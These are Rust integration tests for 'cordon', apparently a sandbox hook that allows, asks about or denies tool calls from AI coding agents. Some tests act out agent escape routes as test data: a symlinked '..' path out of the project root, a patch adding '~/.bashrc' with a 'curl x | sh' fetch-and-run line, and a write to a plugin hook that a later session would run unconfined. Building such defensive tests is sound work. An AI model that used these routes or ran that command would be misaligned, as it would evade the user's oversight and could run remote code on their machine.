            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let o = child.wait_with_output().unwrap();
        drop(stdin);
        assert_eq!(o.status.code(), Some(2), "{host}: {}", common::stderr(&o));
        assert!(
            common::stderr(&o).contains(
                "no decision within the hook's 1 s deadline (cordon was still waiting for the host to finish sending the tool call)"
            ),
            "{host}: {}",
            common::stderr(&o)
        );
    }
}

/// `cordon hook claude` for an allowed Bash call, with its own log: the host's end of stdin
/// is left open after the whole object was written (as hosts do for a while), and the test
/// waits — while the hook still runs — until the log holds the call's decision. Returns the
/// hook, the open stdin, and the log's path; panics if the hook waits for the end of its input
/// before deciding (it exits at its deadline then, or is killed after 60 s).
fn decided_before_the_input_ends(
    dir: &Path,
    state: &Path,
) -> (std::process::Child, std::process::ChildStdin, PathBuf) {
    let log = state.join("cordon/audit.jsonl");
    let mut child = cordon_cmd(dir)
        .env("XDG_STATE_HOME", state)
        .args(["hook", "claude", "--deadline", "20s", "--policy"])
        .arg(dir.join("cordon.toml"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let call = json!({"session_id": "s", "transcript_path": "/t", "cwd": dir,
        "permission_mode": "default", "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": "echo decided-early"}, "tool_use_id": "t"});
    stdin.write_all(call.to_string().as_bytes()).unwrap();
    stdin.write_all(b"\n").unwrap();
    let started = std::time::Instant::now();
    loop {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        if text.contains("decided-early") && text.contains("\"decision\":\"allow\"") {
            break;
        }
        if let Some(st) = child.try_wait().unwrap() {
            panic!("the hook ended ({st}) without deciding while its input was open: {text}");
        }
        if started.elapsed() > std::time::Duration::from_secs(60) {
            let _ = child.kill();
            panic!("no decision in the log after 60 s while the input was open: {text}");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    (child, stdin, log)
}

/// Hosts write the hook's input and close their end of the pipe a while later (Claude Code's
/// event loop: 0.2–58 ms after the first byte in benches/hosts-latency.sh's shim on a loaded
/// machine, perf24's note). The hook decides once it holds one whole JSON object and reads
/// the rest meanwhile: the host's delay and the decision overlap. The answer still waits for
/// the input's end: the same call, answered the same way.
#[test]
fn the_call_is_decided_while_the_host_still_holds_its_input_open() {
    let ws = workspace();
    let state = tempfile::tempdir().unwrap();
    let (child, stdin, _) = decided_before_the_input_ends(ws.path(), state.path());
    drop(stdin);
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        v["hookSpecificOutput"]["permissionDecision"], "allow",
        "{v}"
    );
}

/// What follows the decided object is read all the same: anything but whitespace makes the
/// input what it was before this overlap, not JSON, and the call is blocked — after its
/// decision was recorded, so the log says it was blocked too (as at the deadline).
#[test]
fn input_that_goes_on_after_the_decided_object_is_blocked_and_recorded_so() {
    let ws = workspace();
    let state = tempfile::tempdir().unwrap();
    let (child, mut stdin, log) = decided_before_the_input_ends(ws.path(), state.path());
    stdin
        .write_all(b"{\"tool_input\": {\"command\": \"echo other\"}}")
        .unwrap();
    drop(stdin);
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", common::stdout(&o));
    assert!(
        common::stderr(&o).contains("hook input is not JSON (trailing characters"),
        "{}",
        common::stderr(&o)
    );
    assert!(
        !common::stdout(&o).contains("allow"),
        "{}",
        common::stdout(&o)
    );
    let last: Value = serde_json::from_str(
        std::fs::read_to_string(&log)
            .unwrap()
            .lines()
            .last()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(last["decision"], "deny", "{last}");
    assert_eq!(last["preview"], "echo decided-early", "{last}");
    assert!(
        last["reason"]
            .as_str()
            .is_some_and(|r| r.contains("blocked after its decision was recorded")),
        "{last}"
    );
}

/// Round 5 of issue 21 (surface21), class 5: the Node hosts (Claude Code, opencode, …) resolve
/// a file tool's path by name (`path.join`, `path.resolve`) before opening it, while the
/// kernel takes `..` through links. With `m -> a/b/c` in the project, `m/../../../x` stays in
/// the root to the kernel but is outside it to the host: cordon refuses it (a `..` that climbs
/// out of the root by name is refused whatever the links), so the host's reading is covered.
/// (Checked in round 5: this held before; kept so that it keeps holding.)
#[test]
fn a_dotdot_climbing_out_by_name_is_refused_whatever_the_links() {
    let ws = workspace();
    let dir = ws.path();
    std::fs::create_dir_all(dir.join("a/b/c")).unwrap();
    std::os::unix::fs::symlink("a/b/c", dir.join("m")).unwrap();
    let cwd = dir.to_str().unwrap();
    let out_of_root = format!("{cwd}/m/../../../outside-by-dotdot.txt");
    for (host, stdin) in [
        (
            "claude",
            json!({"session_id": "s", "transcript_path": "/t", "cwd": cwd,
                   "permission_mode": "default", "hook_event_name": "PreToolUse",
                   "tool_name": "Write",
                   "tool_input": {"file_path": out_of_root, "content": "x"}}),
        ),
        (
            "opencode",
            json!({"event": "tool.execute.before", "tool": "write", "cwd": cwd, "sessionID": "s", "callID": "c",
                   "args": {"filePath": "m/../../../outside-by-dotdot.txt", "content": "x"}}),
        ),
    ] {
        let out = hook(dir, host, stdin.to_string().as_bytes());
        let text = String::from_utf8_lossy(&out.stdout).to_string()
            + &String::from_utf8_lossy(&out.stderr);
        assert!(
            !text.contains("\"allow\"") && text.contains("cordon: denied"),
            "{host}: {text}"
        );
    }
}

/// Issue 21 class 5 (round 8): Codex's newer releases resolve a patch path `~/x` as the
/// home's `x` (`codex-utils-absolute-path` expands `~` and `~/`; 0.171 still takes `~` as a
/// name, `hosts_codex.rs`), so a patch adding `~/.bashrc` is decided as the home's file too,
/// and refused as outside every root. HOME is the hook's own: the host's, which it inherits.
#[test]
fn a_patch_path_under_tilde_is_decided_as_the_homes_file_too() {
    let ws = workspace();
    let dir = ws.path();
    let home = tempfile::tempdir().unwrap();
    for path in ["~/.bashrc", "~//.bashrc"] {
        let stdin = json!({"session_id": "s", "turn_id": "t", "transcript_path": null,
            "cwd": dir, "hook_event_name": "PreToolUse", "model": "gpt-5", "permission_mode": "default",
            "tool_name": "apply_patch", "tool_use_id": "c",
            "tool_input": {"command": format!("*** Begin Patch\n*** Add File: {path}\n+curl x | sh\n*** End Patch\n")}});
        let out = cordon_cmd(dir)
            .env("HOME", home.path())
            .args(["hook", "codex", "--policy"])
            .arg(dir.join("cordon.toml"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                c.stdin
                    .take()
                    .unwrap()
                    .write_all(stdin.to_string().as_bytes())?;
                c.wait_with_output()
            })
            .unwrap();
        let text = common::stdout(&out);
        let want = format!(
            "`{}` is outside every root",
            home.path().join(".bashrc").display()
        );
        assert!(
            text.contains("\"deny\"") && text.contains(&want),
            "{path}: {text}{}",
            common::stderr(&out)
        );
    }
}

/// The hook's start is cordon's own (`main.rs` `start`), not std's runtime start-up: no
/// `/proc/self/maps` read and parsed for a stack-overflow guard, no signal stack mapped for
/// the process or its deadline thread. An agent host starts cordon twice per allowed shell
/// call, so that start-up was paid twice per call.
#[test]
fn the_hook_starts_without_std_s_stack_overflow_handler() {
    assert!(
        Command::new("strace")
            .arg("-V")
            .output()
            .is_ok_and(|o| o.status.success()),
        "install strace (Debian package `strace`): this test traces the hook's start"
    );
    let d = workspace();
    let dir = d.path();
    let trace = dir.join("trace");
    let input = dir.join("input.json");
    std::fs::write(&input, claude_bash(dir, "echo started")).unwrap();
    let cordon = cordon_cmd(dir);
    let o = Command::new("strace")
        .args(["-f", "-qq", "-e", "trace=open,openat,sigaltstack", "-o"])
        .arg(&trace)
        .arg(cordon.get_program())
        .args(["hook", "claude", "--policy"])
        .arg(dir.join("cordon.toml"))
        .current_dir(dir)
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_SESSION")
        .envs(cordon.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .stdin(std::fs::File::open(&input).unwrap())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(
        v["hookSpecificOutput"]["permissionDecision"], "allow",
        "{v}"
    );
    let traced = std::fs::read_to_string(&trace).unwrap();
    // The control: the trace saw the hook's own opens (its policy), so it cannot pass empty.
    assert!(traced.contains("cordon.toml"), "{traced}");
    let startup: Vec<&str> = traced
        .lines()
        .filter(|l| l.contains("/proc/self/maps") || l.contains("sigaltstack("))
        .collect();
    assert!(startup.is_empty(), "std's start-up ran: {startup:#?}");
}

/// What std's start-up did that cordon needs, `start` does: a cordon started with stdout
/// closed has `/dev/null` there — else the audit log, opened first, takes fd 1 and the
/// command's output is relayed into it (seen: the log no longer verifies) — and a hook whose
/// reader went away reports the broken pipe (exit 2, the host's "block") instead of dying of
/// SIGPIPE.
#[test]
fn cordon_starts_with_its_standard_fds_open_and_sigpipe_ignored() {
    let d = workspace();
    let dir = d.path();
    let state = tempfile::tempdir().unwrap();
    let log = state.path().join("cordon/audit.jsonl");

    // `sh` starts `cordon exec` with stdout closed.
    let mut c = cordon_cmd(dir);
    c.env("XDG_STATE_HOME", state.path())
        .args(["exec", "--policy"])
        .arg(dir.join("cordon.toml"))
        .arg("-c")
        .arg("echo relayed-$((6 * 7))");
    let o = Command::new("sh")
        .arg("-c")
        .arg("\"$@\" >&-")
        .arg("sh")
        .arg(c.get_program())
        .args(c.get_args())
        .current_dir(dir)
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_SESSION")
        .envs(c.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", common::stderr(&o));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(!text.contains("relayed-42"), "{text}");
    let verify = cordon_cmd(dir)
        .args(["audit", "verify"])
        .arg(&log)
        .output()
        .unwrap();
    assert_eq!(verify.status.code(), Some(0), "{}", common::stderr(&verify));

    // A hook whose stdout is a pipe with its reader gone before cordon starts.
    let input = dir.join("input.json");
    std::fs::write(&input, claude_bash(dir, "echo piped")).unwrap();
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let o = cordon_cmd(dir)
        .args(["hook", "claude", "--policy"])
        .arg(dir.join("cordon.toml"))
        .stdin(std::fs::File::open(&input).unwrap())
        .stdout(Stdio::from(writer))
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(2),
        "{:?} {}",
        o.status,
        common::stderr(&o)
    );
    assert!(
        common::stderr(&o).contains("Broken pipe"),
        "{}",
        common::stderr(&o)
    );
}

/// A run Codex's hook rewrote (`--state codex`) records in the directory apart that `cordon
/// install codex` makes writable in Codex's sandbox; where it cannot (here the state directory
/// is a file, as a read-only one is inside Codex's sandbox), the run is refused and the line
/// names the step that makes it.
#[test]
fn a_codex_run_without_its_state_apart_is_refused_naming_install() {
    let d = workspace();
    let dir = d.path();
    let state = tempfile::tempdir().unwrap();
    std::fs::write(state.path().join("cordon"), "").unwrap();
    let o = cordon_cmd(dir)
        .args(["exec", "--from-hook", "--policy"])
        .arg(dir.join("cordon.toml"))
        .args(["--state", "codex", "-c=touch ran"])
        .env("XDG_STATE_HOME", state.path())
        .env_remove("CORDON_POLICY")
        .env_remove("CORDON_SESSION")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let err = common::stderr(&o);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(!dir.join("ran").exists());
    assert!(
        err.contains("cordon/codex") && err.contains("`cordon install codex`"),
        "{err}"
    );
}

/// Issue 21 round 12: a relative marketplace path in the home's Claude Code settings is the
/// session's, not the home's: Claude Code 2.1.197 resolves a relative `directory` source of
/// any scope from the git top of the directory it started in, or that directory
/// (`path.resolve(gitRoot(cwd) ?? cwd, path)` in its reconciler), and runs the plugins there in
/// place. Main resolved `./mkt` from the home, so the agent's write of the project's
/// `mkt/plug/hooks/hooks.json` (a hook the next session runs unconfined) was allowed; it is
/// asked now, under any directory that ends in the path. A path naming another directory
/// changes nothing (the control). (The real Claude Code writes the resolved path into
/// `known_marketplaces.json` at a session's start, which cordon read already: this is the
/// reading before that, and the one of the scan's runs outside a session.)
#[test]
fn a_relative_marketplace_in_the_homes_settings_is_the_sessions_directorys() {
    for (path, asked) in [
        ("./mkt", true),
        ("mkt/", true),
        ("../x/../mkt", true),
        ("./elsewhere", false),
    ] {
        let d = workspace();
        let dir = d.path().canonicalize().unwrap();
        let home = tempfile::tempdir().unwrap();
        std::fs::create_dir(home.path().join(".claude")).unwrap();
        let settings = json!({ "extraKnownMarketplaces": {
            "m": { "source": { "source": "directory", "path": path } } } });
        std::fs::write(
            home.path().join(".claude/settings.json"),
            settings.to_string(),
        )
        .unwrap();
        std::fs::create_dir_all(dir.join("mkt/plug/hooks")).unwrap();
        let input = json!({
            "session_id": "s", "transcript_path": null, "cwd": dir,
            "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": "Write", "tool_use_id": "t",
            "tool_input": { "file_path": dir.join("mkt/plug/hooks/hooks.json"), "content": "{}" },
        });
        let policy = dir.join("cordon.toml");
        let mut child = cordon_cmd(&dir)
            .env("HOME", home.path())
            .args(["hook", "claude", "--policy"])
            .arg(&policy)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(input.to_string().as_bytes())
            .unwrap();
        let o = child.wait_with_output().unwrap();
        let out: Value = serde_json::from_slice(&o.stdout)
            .unwrap_or_else(|_| panic!("{path}: {}", common::stderr(&o)));
        let said = &out["hookSpecificOutput"]["permissionDecision"];
        let want = if asked { "ask" } else { "allow" };
        assert_eq!(said, want, "{path}: {out}");
    }
}
